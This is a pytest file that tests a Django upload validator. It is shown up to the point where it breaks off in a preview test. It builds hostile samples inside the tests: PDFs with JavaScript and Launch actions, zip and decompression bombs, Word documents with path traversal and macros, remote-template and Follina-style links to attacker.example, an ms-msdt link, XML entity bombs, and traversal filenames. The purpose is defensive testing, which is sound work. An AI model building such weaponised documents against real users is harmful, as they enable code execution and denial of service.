"""Checking uploads by content: every file here is made inside the test, none is a fixture."""

import hashlib
import io
import os
import time
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image, PngImagePlugin

from lib.uploads import (
    DOCX,
    IMAGE_TYPES,
    JPEG,
    MB,
    MP4,
    PDF,
    PNG,
    PPTX,
    TEXT,
    WEBP,
    XLSX,
    CheckedUpload,
    check_upload,
    clean_filename,
    make_preview,
)

POSTER = {PDF, PNG, JPEG, WEBP}
PRESS_RELEASE = {PDF, DOCX}
LIMIT = 2 * MB

# --- Making files ---------------------------------------------------------------------------------


def upload(content: bytes, name: str = "upload.bin") -> SimpleUploadedFile:
    # The browser's content type is deliberately wrong: it must never matter.
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def check(content: bytes, name: str = "upload.bin", *, allowed=POSTER, what="poster"):
    return check_upload(upload(content, name), allowed=allowed, max_bytes=LIMIT, what=what)


def refusal(content: bytes, name: str = "upload.bin", *, allowed=POSTER, what="poster") -> str:
    with pytest.raises(ValidationError) as caught:
        check(content, name, allowed=allowed, what=what)
    (message,) = caught.value.messages
    return message


def image_bytes(format: str, size=(40, 30), mode="RGB", color="teal", **options) -> bytes:
    output = io.BytesIO()
    Image.new(mode, size, color).save(output, format, **options)
    return output.getvalue()


def noisy_image_bytes(format: str, size=(64, 64)) -> bytes:
    # Random pixels do not compress, so cutting the file in half really loses image data.
    output = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(output, format)
    return output.getvalue()


def photo_with_location() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: the camera was turned, show it rotated 90 degrees
    exif[0x010F] = "Phone maker"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 27.0, 3.5), 3: "W", 4: (2.0, 35.0, 1.2)})
    return image_bytes("JPEG", size=(40, 20), exif=exif.tobytes())


def blank_one_bit_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of blank rows: kilobytes on disk, width × height pixels in memory."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    row = bytes(1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    rows_per_piece = 1000
    idat = b"".join(
        compressor.compress(row * min(rows_per_piece, height - start))
        for start in range(0, height, rows_per_piece)
    )
    idat += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def pillow_pdf(size=(600, 900)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, "white").save(output, "PDF")
    return output.getvalue()


def pdf_from_objects(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; object 1 must be the catalog."""
    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    pdf += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(pdf)


ONE_PAGE = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
)


def pdf_with_open_action_script() -> bytes:
    return pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        *ONE_PAGE,
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )


def pdf_with_object_stream(
    hidden_object: bytes, *, before_type: bytes = b"", filter: bytes = b"/FlateDecode"
) -> bytes:
    """A PDF 1.5 whose object 5 is only inside a compressed object stream (object 4).

    Object streams need a cross-reference stream (object 6) rather than a table.
    """
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    objects = [catalog, *ONE_PAGE]
    index = b"5 0 "
    packed = index + hidden_object
    packed = zlib.compress(packed) if filter == b"/FlateDecode" else packed.hex().encode()
    objects.append(
        b"<< %s /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream"
        % (before_type, len(index), filter, len(packed), packed)
    )
    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(pdf)

    def entry(kind: int, field: int, generation: int) -> bytes:
        return bytes([kind]) + field.to_bytes(4, "big") + generation.to_bytes(2, "big")

    rows = (
        entry(0, 0, 65535)
        + b"".join(entry(1, offset, 0) for offset in offsets)
        + entry(2, 4, 0)
        + entry(1, xref, 0)
    )
    pdf += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows), rows, xref)
    )
    return bytes(pdf)


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def office_bytes(main_part: str, *extra: tuple[str, bytes], content_types=CONTENT_TYPES) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        # filetype recognises Office files by these parts coming first, as Word writes them.
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr(main_part, b"<document>Campaign launch</document>")
        for name, data in extra:
            archive.writestr(name, data)
    return output.getvalue()


def docx_bytes(*extra: tuple[str, bytes], **options) -> bytes:
    return office_bytes("word/document.xml", *extra, **options)


def docx_with_zeros(entries: int, megabytes_each: int) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<document/>")
        megabyte = bytes(MB)
        for number in range(entries):
            with archive.open(f"word/media/zeros{number}.bin", "w") as entry:
                for _ in range(megabytes_each):
                    entry.write(megabyte)
    return output.getvalue()


def mp4_bytes(size: int = 4096) -> bytes:
    header = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
    return header + bytes(size - len(header))


def temporary_upload(content: bytes, name: str) -> TemporaryUploadedFile:
    uploaded = TemporaryUploadedFile(name, "application/octet-stream", len(content), None)
    uploaded.write(content)
    uploaded.flush()
    uploaded.seek(0)
    return uploaded


def stored_bytes(checked: CheckedUpload) -> bytes:
    assert checked.content.tell() == 0
    data = checked.content.read()
    checked.content.seek(0)
    return data


def assert_consistent(checked: CheckedUpload) -> None:
    data = stored_bytes(checked)
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()


# --- Size -----------------------------------------------------------------------------------------


def test_it_accepts_a_file_of_exactly_the_limit():
    checked = check(mp4_bytes(LIMIT), allowed={MP4}, what="film")
    assert checked.size == LIMIT


def test_it_refuses_a_file_one_byte_over_the_limit_giving_both_sizes():
    message = refusal(mp4_bytes(LIMIT + 1), allowed={MP4}, what="film")
    assert message == "This film is 2.1 MB; the limit for a film is 2 MB."


def test_it_refuses_a_file_over_the_limit_before_reading_it():
    uploaded = upload(b"")
    uploaded.size = 26 * MB  # the size the upload handler counted; there is nothing to read
    with pytest.raises(ValidationError, match=r"is 26\.0 MB; the limit for a poster is 25 MB"):
        check_upload(uploaded, allowed=POSTER, max_bytes=25 * MB, what="poster")


def test_it_refuses_an_empty_file():
    assert "empty" in refusal(b"", "poster.pdf")


# --- Type by content ------------------------------------------------------------------------------


def test_it_refuses_an_html_page_renamed_png_saying_what_a_poster_can_be():
    message = refusal(b"<!DOCTYPE html><html><body>Hi</body></html>", "poster.png")
    assert message == (
        "This file is an HTML page, which cannot be uploaded as a poster. "
        "A poster can be a PDF, PNG, JPEG or WebP image."
    )


def test_it_refuses_an_svg_renamed_png_even_if_the_caller_allows_svg():
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
    message = refusal(svg, "logo.png", allowed={PNG, "image/svg+xml"}, what="logo")
    assert message.startswith("This file is an SVG image, which cannot be uploaded as a logo.")
    assert message.endswith("A logo can be a PNG image.")


def test_it_refuses_an_executable_renamed_pdf():
    content = b"MZ\x90\x00" + bytes(200)
    message = refusal(content, "release.pdf", allowed=PRESS_RELEASE, what="press release")
    assert message == (
        "This file is a Windows program (EXE), which cannot be uploaded as a press release. "
        "A press release can be a PDF or Word document (DOCX)."
    )


def test_it_refuses_an_elf_program_renamed_pdf():
    message = refusal(b"\x7fELF\x02\x01\x01" + bytes(200), "release.pdf")
    assert "program (ELF executable)" in message


def test_it_refuses_a_plain_zip_archive():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert "ZIP archive" in refusal(output.getvalue(), "release.docx", allowed=PRESS_RELEASE)


def test_it_refuses_a_type_the_caller_did_not_allow():
    message = refusal(pillow_pdf(), "logo.pdf", allowed=IMAGE_TYPES, what="logo")
    assert message == (
        "This file is a PDF, which cannot be uploaded as a logo. "
        "A logo can be a PNG, JPEG or WebP image."
    )


def test_it_refuses_bytes_it_does_not_recognise():
    message = refusal(b"\x00\x01\x02\x03" + os.urandom(100), "poster.pdf")
    assert "not in a format the portal recognises" in message
    assert "A poster can be" in message


def test_it_names_the_file_by_what_it_is_not_what_it_was_called():
    checked = check(image_bytes("PNG"), "Summer poster.pdf")
    assert checked.content_type == PNG
    assert checked.filename == "Summer poster.png"


# --- Plain text -----------------------------------------------------------------------------------


def test_it_accepts_utf8_text_with_pounds_and_accents():
    content = "Café mornings raised £120 for the helpline.\n".encode()
    checked = check(content, "notes.txt", allowed={TEXT}, what="note")
    assert checked.content_type == TEXT
    assert checked.filename == "notes.txt"
    assert stored_bytes(checked) == content
    assert_consistent(checked)


def test_it_accepts_utf8_text_with_a_byte_order_mark():
    checked = check("\ufeffCampaign notes\r\n".encode(), allowed={TEXT}, what="note")
    assert checked.content_type == TEXT


def test_it_refuses_text_that_is_not_utf8():
    message = refusal("Raised £120".encode("cp1252"), "notes.txt", allowed={TEXT}, what="note")
    assert "not saved as UTF-8" in message


def test_it_refuses_text_with_control_characters_past_the_start():
    content = b"Campaign notes.\n" * 1000 + b"\x1b[31m red"
    message = refusal(content, "notes.txt", allowed={TEXT}, what="note")
    assert "contains control characters" in message


def test_it_does_not_take_binary_bytes_for_text():
    message = refusal(b"Campaign\x1b[31m notes", "notes.txt", allowed={TEXT}, what="note")
    assert "not in a format the portal recognises" in message


def test_it_refuses_markup_hidden_far_into_a_text_file():
    content = b"Plain notes.\n" * 5000 + b"<SCRIPT>alert(1)</SCRIPT>"
    message = refusal(content, "notes.txt", allowed={TEXT}, what="note")
    assert "HTML page" in message
    assert "A note can be a plain text file." in message


def test_it_refuses_text_starting_with_markup():
    message = refusal(b"\xef\xbb\xbf  \n<b>bold</b>", "notes.txt", allowed={TEXT}, what="note")
    assert "HTML or XML document" in message


def test_it_refuses_plain_text_where_text_is_not_allowed():
    assert "This file is a plain text file" in refusal(b"Just some words.", "poster.pdf")


# --- Images ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "format,content_type,extension",
    [("PNG", PNG, ".png"), ("JPEG", JPEG, ".jpg"), ("WEBP", WEBP, ".webp")],
)
def test_it_accepts_each_image_format_and_stores_it_re_encoded(format, content_type, extension):
    checked = check(image_bytes(format), f"logo{extension}")
    assert checked.content_type == content_type
    assert checked.filename == f"logo{extension}"
    assert (checked.width, checked.height) == (40, 30)
    assert checked.page_count is None
    assert Image.open(io.BytesIO(stored_bytes(checked))).format == format
    assert_consistent(checked)


def test_it_strips_the_location_from_a_photo_and_turns_it_upright():
    original = photo_with_location()
    assert b"Exif" in original
    checked = check(original, "evidence.jpg", what="photo")
    stored = stored_bytes(checked)
    assert b"Exif" not in stored
    assert b"Phone maker" not in stored
    assert not Image.open(io.BytesIO(stored)).getexif()
    assert (checked.width, checked.height) == (20, 40)


def test_it_strips_text_chunks_from_a_png():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address of the photographer")
    checked = check(image_bytes("PNG", pnginfo=info), "logo.png")
    assert b"home address" not in stored_bytes(checked)


def test_it_keeps_transparency_in_a_palette_png():
    checked = check(image_bytes("PNG", mode="P", color=0, transparency=0), "logo.png")
    stored = Image.open(io.BytesIO(stored_bytes(checked)))
    assert stored.mode == "P"
    assert stored.info["transparency"] == 0


def test_it_stores_a_cmyk_jpeg_as_rgb():
    checked = check(image_bytes("JPEG", mode="CMYK", color=(0, 255, 255, 0)), "poster.jpg")
    assert Image.open(io.BytesIO(stored_bytes(checked))).mode == "RGB"


def test_it_accepts_a_png_with_a_web_page_appended_but_stores_only_the_image():
    polyglot = image_bytes("PNG") + b"<html><script>alert(1)</script></html>"
    checked = check(polyglot, "logo.png")
    stored = stored_bytes(checked)
    assert b"<script" not in stored
    assert Image.open(io.BytesIO(stored)).size == (40, 30)


@pytest.mark.parametrize("format", ["PNG", "JPEG"])
def test_it_refuses_an_image_cut_in_half(format):
    whole = noisy_image_bytes(format)
    message = refusal(whole[: len(whole) // 2], "poster.img")
    assert message.startswith("This file looks damaged or incomplete")
    assert f"{format} image" in message


def test_it_refuses_a_decompression_bomb_quickly():
    bomb = blank_one_bit_png(20_000, 20_000)
    assert len(bomb) < 100_000
    started = time.perf_counter()
    message = refusal(bomb, "poster.png")
    assert time.perf_counter() - started < 2
    assert "too many pixels" in message
    assert "the limit is 50 million pixels" in message


def test_it_refuses_an_image_over_fifty_million_pixels_that_pillow_would_allow():
    message = refusal(blank_one_bit_png(8_000, 8_000), "poster.png")
    assert "8,000 × 8,000 pixels" in message
    assert "50 million pixels" in message


def test_it_refuses_an_animated_png():
    frames = [Image.new("RGB", (10, 10), color) for color in ("red", "blue")]
    output = io.BytesIO()
    frames[0].save(output, "PNG", save_all=True, append_images=frames[1:])
    assert "animated PNG image" in refusal(output.getvalue(), "logo.png")


# --- PDF ------------------------------------------------------------------------------------------


def test_it_accepts_a_pdf_and_counts_its_pages():
    content = pillow_pdf()
    checked = check(content, "Press release.pdf", allowed=PRESS_RELEASE)
    assert checked.content_type == PDF
    assert checked.page_count == 1
    assert checked.filename == "Press release.pdf"
    assert stored_bytes(checked) == content
    assert_consistent(checked)


def test_it_refuses_a_pdf_with_a_javascript_open_action():
    message = refusal(pdf_with_open_action_script(), "poster.pdf")
    assert "JavaScript" in message
    assert "Save a copy without them" in message


def test_it_finds_a_script_hidden_in_a_compressed_object_stream():
    hidden = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    content = pdf_with_object_stream(hidden)
    assert b"/JS" not in content
    assert "JavaScript" in refusal(content, "poster.pdf")


def test_it_is_not_fooled_by_the_word_stream_in_a_string_before_an_object_stream():
    hidden = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    content = pdf_with_object_stream(hidden, before_type=b"/Title (a stream\n)")
    assert "JavaScript" in refusal(content, "poster.pdf")


def test_it_refuses_an_object_stream_it_cannot_unpack():
    content = pdf_with_object_stream(b"<< /S /GoTo >>", filter=b"/ASCIIHexDecode")
    assert "built in a way the portal cannot check" in refusal(content, "poster.pdf")


def test_it_finds_a_script_object_hidden_inside_an_image_stream():
    decoy = b"\xff\xd8\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n\xff\xd9"
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        *ONE_PAGE,
        b"<< /Subtype /Image /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(decoy), decoy),
    )
    assert "JavaScript" in refusal(content, "poster.pdf")


def test_it_refuses_a_pdf_with_too_many_streams_to_check():
    content = (
        pdf_from_objects(b"<< /Type /Catalog /Pages 2 0 R >>", *ONE_PAGE) + b"stream\n" * 200_001
    )
    assert "too complex" in refusal(content, "poster.pdf")


def test_it_accepts_a_harmless_compressed_object_stream():
    content = pdf_with_object_stream(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>")
    assert check(content, "poster.pdf").page_count == 1


def test_it_finds_a_script_name_written_with_escapes():
    content = pdf_with_open_action_script().replace(b"/JavaScript /JS", b"/Java#53cript /J#53")
    assert "JavaScript" in refusal(content, "poster.pdf")


def test_it_refuses_a_pdf_with_additional_actions():
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
        b"<< /S /Launch /F (calc.exe) >>",
    )
    assert "actions that run by themselves" in refusal(content, "poster.pdf")


def test_it_refuses_a_pdf_with_an_attached_file():
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
        *ONE_PAGE,
        b"<< /Names [] >>",
    )
    assert "files attached" in refusal(content, "poster.pdf")


def test_it_refuses_an_encrypted_pdf():
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>", *ONE_PAGE, trailer=b"/Encrypt << /Filter /Standard >>"
    )
    assert "protected with a password" in refusal(content, "poster.pdf")


def test_it_does_not_mistake_names_that_merely_start_like_a_script_for_one():
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R /JSONData 4 0 R /AAB 4 0 R >>", *ONE_PAGE, b"<< >>"
    )
    assert check(content, "poster.pdf").page_count == 1


def test_it_does_not_mistake_image_bytes_for_a_script():
    # Compressed image data is random: in a large poster, "/JS " turns up by chance.
    pixels = b"\xff\xd8" + b"/JS /AA " * 16 + b"\xff\xd9"
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
        *ONE_PAGE,
        # An outline has /First too, as a reference: that does not make the next stream an
        # object stream, which would have to be unpacked.
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Front) /Parent 4 0 R /Dest [3 0 R /Fit] >>",
        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length %d >>"
        b"\nstream\n%s\nendstream" % (len(pixels), pixels),
    )
    assert check(content, "poster.pdf").page_count == 1


def test_it_refuses_a_pdf_that_unpacks_to_too_much():
    packed = zlib.compress(bytes(51 * MB), 1)
    content = pdf_from_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        *ONE_PAGE,
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed),
    )
    assert "too complex" in refusal(content, "poster.pdf")


def test_it_refuses_a_pdf_cut_in_half():
    content = pillow_pdf()
    message = refusal(content[: len(content) // 2], "poster.pdf")
    assert message.startswith("This file looks damaged or incomplete: it could not be read as")
    assert "a PDF" in message


# --- Word and PowerPoint --------------------------------------------------------------------------


def test_it_accepts_a_word_document():
    content = docx_bytes()
    checked = check(content, "Press release.docx", allowed=PRESS_RELEASE)
    assert checked.content_type == DOCX
    assert checked.filename == "Press release.docx"
    assert stored_bytes(checked) == content
    assert_consistent(checked)


def test_it_accepts_a_powerpoint_presentation():
    checked = check(office_bytes("ppt/presentation.xml"), "talk.pptx", allowed={PPTX})
    assert checked.content_type == PPTX
    assert checked.filename == "talk.pptx"


def test_it_refuses_a_word_document_with_a_path_outside_the_archive():
    content = docx_bytes(("../evil.sh", b"echo owned"))
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert "unsafe path" in message
    assert "Word document (DOCX)" in message


def test_it_refuses_a_word_document_with_macros():
    content = docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))
    assert "contains macros" in refusal(content, "release.docx", allowed=PRESS_RELEASE)


def test_it_refuses_a_macro_enabled_document_renamed_docx():
    declared = CONTENT_TYPES.replace(
        b"</Types>",
        b'<Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    )
    content = docx_bytes(content_types=declared)
    assert "contains macros" in refusal(content, "release.docx", allowed=PRESS_RELEASE)


def test_it_refuses_a_zip_bomb_dressed_as_a_word_document():
    content = docx_with_zeros(entries=1, megabytes_each=200)
    assert len(content) < 2 * MB
    assert "unpacks to far more" in refusal(content, "release.docx", allowed=PRESS_RELEASE)


def test_it_refuses_a_word_document_whose_parts_add_up_to_too_much():
    # Each part is under the size where compression ratios are checked; together they are not.
    content = docx_with_zeros(entries=101, megabytes_each=1)
    assert "unpacks to far more" in refusal(content, "release.docx", allowed=PRESS_RELEASE)


def test_it_refuses_a_word_document_missing_its_main_part():
    content = office_bytes("word/styles.xml")
    assert "missing parts" in refusal(content, "release.docx", allowed=PRESS_RELEASE)


def test_it_refuses_a_word_document_that_is_not_a_whole_archive():
    content = docx_bytes()
    message = refusal(content[: len(content) - 30], "release.docx", allowed=PRESS_RELEASE)
    assert message.startswith("This file looks damaged or incomplete")


# --- Office documents that reach out, or carry objects and controls -------------------------------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships).encode()
        + b"</Relationships>"
    )


def relationship(kind: str, target: str, *, external: bool = True, mode: str = "External") -> str:
    attribute = f' TargetMode="{mode}"' if external else ""
    return f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}"{attribute}/>'


def test_it_refuses_a_word_document_with_a_remote_template():
    # The "template injection" trick: Word fetches the template when the document opens.
    settings_rels = rels(relationship("attachedTemplate", "https://attacker.example/t.dotm"))
    content = docx_bytes(("word/_rels/settings.xml.rels", settings_rels))
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert "linked to content stored elsewhere (https://attacker.example/t.dotm)" in message
    assert "Office fetches by itself when the file is opened" in message


def test_it_refuses_a_follina_style_object_link():
    target = "mhtml:https://attacker.example/page.html!x-usc:https://attacker.example/page.html"
    document_rels = rels(relationship("oleObject", target))
    content = docx_bytes(("word/_rels/document.xml.rels", document_rels))
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert "embedded object (an OLE object)" in message


def test_it_refuses_a_linked_picture_in_a_presentation():
    slide_rels = rels(relationship("image", "http://attacker.example/pixel.png"))
    content = office_bytes("ppt/presentation.xml", ("ppt/slides/_rels/slide1.xml.rels", slide_rels))
    message = refusal(content, "talk.pptx", allowed={PPTX})
    assert "PowerPoint presentation (PPTX) is linked to content stored elsewhere" in message


def test_an_external_link_written_with_a_character_reference_is_still_seen():
    # TargetMode="&#69;xternal" reads "External" to Office; a byte search would miss it.
    escaped = rels(
        relationship("attachedTemplate", "https://attacker.example/t.dotm", mode="&#69;xternal")
    )
    content = docx_bytes(("word/_rels/settings.xml.rels", escaped))
    assert "linked to content stored elsewhere" in refusal(
        content, "release.docx", allowed=PRESS_RELEASE
    )


def test_it_refuses_a_relationship_part_that_declares_entities():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"&b;</Relationships>"
    )
    content = docx_bytes(("word/_rels/document.xml.rels", bomb))
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert message.startswith("This file looks damaged or incomplete")


def test_it_accepts_ordinary_web_and_email_links():
    document_rels = rels(
        relationship("hyperlink", "https://www.example.org/campaign"),
        relationship("hyperlink", "mailto:press@example.org"),
        relationship("styles", "styles.xml", external=False),
    )
    content = docx_bytes(("word/_rels/document.xml.rels", document_rels))
    assert check(content, "release.docx", allowed=PRESS_RELEASE).content_type == DOCX


def test_it_refuses_a_link_that_starts_a_program():
    document_rels = rels(relationship("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force"))
    content = docx_bytes(("word/_rels/document.xml.rels", document_rels))
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert "a link that opens something other than a web page or an e-mail (ms-msdt:" in message


OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def test_it_refuses_an_embedded_ole_object():
    content = docx_bytes(
        ("word/embeddings/oleObject1.bin", OLE_FILE),
        (
            "word/_rels/document.xml.rels",
            rels(relationship("oleObject", "embeddings/oleObject1.bin", external=False)),
        ),
    )
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert "contains an embedded object (an OLE object)" in message


def test_it_refuses_any_other_embedded_file():
    content = office_bytes("ppt/presentation.xml", ("ppt/embeddings/setup.exe", b"MZ" + bytes(64)))
    assert "embedded object (“setup.exe”)" in refusal(content, "talk.pptx", allowed={PPTX})


def test_it_refuses_activex_controls():
    content = docx_bytes(
        ("word/activeX/activeX1.xml", b"<ax:ocx/>"),
        ("word/activeX/activeX1.bin", OLE_FILE),
    )
    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
    assert "contains ActiveX controls" in message


def test_a_charts_embedded_workbook_is_accepted_when_it_is_clean_and_refused_with_macros():
    clean_workbook = office_bytes("xl/workbook.xml")
    chart = office_bytes(
        "ppt/presentation.xml", ("ppt/embeddings/Microsoft_Excel_Worksheet.xlsx", clean_workbook)
    )
    assert check(chart, "talk.pptx", allowed={PPTX}).content_type == PPTX
    with_macros = office_bytes("xl/workbook.xml", ("xl/vbaProject.bin", OLE_FILE))
    chart = office_bytes(
        "ppt/presentation.xml", ("ppt/embeddings/Microsoft_Excel_Worksheet.xlsm", with_macros)
    )
    assert "contains macros" in refusal(chart, "talk.pptx", allowed={PPTX})
    remote = office_bytes(
        "xl/workbook.xml",
        ("xl/_rels/workbook.xml.rels", rels(relationship("externalLinkPath", "file://server/x"))),
    )
    chart = office_bytes("ppt/presentation.xml", ("ppt/embeddings/data.xlsx", remote))
    assert "linked to content stored elsewhere" in refusal(chart, "talk.pptx", allowed={PPTX})


def test_an_excel_workbook_with_an_external_link_is_refused_for_a_figures_import_too():
    workbook = office_bytes(
        "xl/workbook.xml",
        ("xl/_rels/workbook.xml.rels", rels(relationship("oleObject", "file://server/share"))),
    )
    message = refusal(workbook, "figures.xlsx", allowed={XLSX}, what="spreadsheet")
    assert "Excel spreadsheet (XLSX) contains an embedded object" in message


# --- Films ----------------------------------------------------------------------------------------


def test_it_accepts_an_mp4_film():
    checked = check(mp4_bytes(), "Launch film.mov", allowed={MP4}, what="film")
    assert checked.content_type == MP4
    assert checked.filename == "Launch film.mp4"
    assert_consistent(checked)


def test_it_refuses_a_quicktime_film():
    quicktime = b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + bytes(100)
    message = refusal(quicktime, "film.mp4", allowed={MP4}, what="film")
    assert "QuickTime video (MOV)" in message
    assert "A film can be an MP4 video." in message


def test_it_streams_a_large_film_without_reading_it_whole():
    content = mp4_bytes(3 * MB)
    uploaded = temporary_upload(content, "film.mp4")
    read_sizes = []
    read = uploaded.file.read

    def spy(size=-1):
        read_sizes.append(size)
        return read(size)

    uploaded.file.read = spy
    checked = check_upload(uploaded, allowed={MP4}, max_bytes=10 * MB, what="film")
    assert checked.content is uploaded
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.size == len(content)
    assert read_sizes
    assert all(0 < size <= 64 * 1024 for size in read_sizes)
    assert uploaded.tell() == 0


def test_it_checks_a_word_document_that_arrived_as_a_temporary_file():
    uploaded = temporary_upload(docx_bytes(), "release.docx")
    checked = check_upload(uploaded, allowed=PRESS_RELEASE, max_bytes=LIMIT)
    assert checked.content_type == DOCX
    assert_consistent(checked)


# --- File names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sent,extension,cleaned",
    [
        ("../../etc/passwd.png", ".png", "passwd.png"),
        ("C:\\Windows\\evil.pdf", ".pdf", "evil.pdf"),
        ("poster\x00.png.exe", ".png", "poster.png.png"),
        ("a\r\nContent-Disposition: x.pdf", ".pdf", "aContent-Disposition x.pdf"),
        ("x" * 296 + ".pdf", ".pdf", "x" * 100 + ".pdf"),
        ('"quoted"  name.pdf', "pdf", "quoted name.pdf"),
        ("...hidden..pdf", ".pdf", "hidden.pdf"),
        ("Café poster ①.png", ".jpg", "Café poster 1.jpg"),
        ("a\uff0fb\u2025pdf", ".pdf", "b.pdf"),
        ("", ".docx", "file.docx"),
        ("....", ".pdf", "file.pdf"),
    ],
)
def test_it_cleans_file_names(sent, extension, cleaned):
    assert clean_filename(sent, extension) == cleaned


def test_a_cleaned_name_never_holds_path_or_header_characters():
    cleaned = clean_filename('..\\../a/"b"\r\n\x00c..\'d.pdf', ".pdf")
    for forbidden in ("/", "\\", "..", '"', "'", "\x00", "\r", "\n"):
        assert forbidden not in cleaned


# --- Previews -------------------------------------------------------------------------------------


def open_preview(checked: CheckedUpload) -> Image.Image:
    preview = make_preview(checked)
    assert preview.name.endswith(".png")
    image = Image.open(io.BytesIO(preview.read()))
    assert image.format == "PNG"
    return image


def test_it_previews_an_image_within_480_pixels():
